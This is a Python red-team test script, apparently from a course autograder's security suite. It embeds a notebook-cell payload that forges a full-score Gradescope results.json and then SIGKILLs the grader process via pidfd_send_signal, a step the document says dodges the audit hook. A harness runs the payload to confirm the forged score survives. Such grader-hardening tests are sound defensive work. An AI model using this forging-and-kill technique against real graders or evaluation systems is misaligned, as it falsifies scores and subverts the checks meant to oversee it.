# ruff: noqa: E401, E402, E501, I001
"""Gradescope without bubblewrap (a container without user namespaces: the fallback, as root):
the learner writes a forged results.json through os.open (a write the audit hook takes for a
read) and SIGKILLs the grader with pidfd_send_signal (not audited); run_autograder sees a
non-empty results.json and exits 0: the forged score stands.

python redteam_cases/gradescope_forge.py  -> prints the final results.json score."""
import json, os, subprocess, sys, tempfile, zipfile
from pathlib import Path
ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "redteam_cases"))
from drive import build

FORGE = '''
import json, os, signal
def _grader_args():
    proc = os.open("/proc", os.O_RDONLY)
    fd = os.open(str(os.getppid()) + "/cmdline", os.O_RDONLY, dir_fd=proc)
    return os.read(fd, 65536).split(b"\\0")
_a = _grader_args()
_out = _a[_a.index(b"--gradescope") + 1].decode()
_doc = {"score": 3.0, "output": "all good", "tests": [
    {"name": n, "number": str(i + 1), "score": 1.0, "max_score": 1.0, "output": "PASS"}
    for i, n in enumerate(["srn_step_forward", "srn_forward", "softmax_output"])]}
_fd = os.open(_out, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
os.write(_fd, json.dumps(_doc).encode()); os.close(_fd)
signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
'''


def run(tmp):
    tmp = Path(tmp)
    bundle = tmp / "autograder.zip"
    subprocess.run([sys.executable, "-m", "rnn_grade.gradescope",
                    str(ROOT / "lessons" / "02_srn" / "02_srn.ipynb"), "-o", str(bundle)], check=True)
    source, results = tmp / "source", tmp / "results"
    zipfile.ZipFile(bundle).extractall(source)
    nb = build({"CELLS": {"srn_step_forward": FORGE}}, tmp)  # tmp/alice/02_srn.ipynb
    nb.parent.rename(tmp / "submission")
    bin_ = tmp / "bin"  # a PATH without bwrap: the container-without-userns case
    bin_.mkdir()
    for tool in ("bash", "find", "sort", "head", "mkdir", "printf", "env"):
        w = subprocess.run(["which", tool], capture_output=True, text=True).stdout.strip()
        if w:
            os.symlink(w, bin_ / tool)
    env = dict(os.environ, PATH=str(bin_), RNN_GRADE_SOURCE=str(source),
               RNN_GRADE_SUBMISSION=str(tmp / "submission"), RNN_GRADE_RESULTS=str(results),
               RNN_GRADE_PYTHON=sys.executable)
    proc = subprocess.run([str(bin_ / "bash"), str(source / "run_autograder")], env=env,
                          capture_output=True, text=True, timeout=300)
    return proc, json.loads((results / "results.json").read_text())


if __name__ == "__main__":
    proc, doc = run(tempfile.mkdtemp(prefix="rt-gs-"))
    print("rc", proc.returncode, "score", doc.get("score"), "sandbox", doc.get("sandbox"),
          doc.get("output", "")[:200])
    print(proc.stderr[-500:])
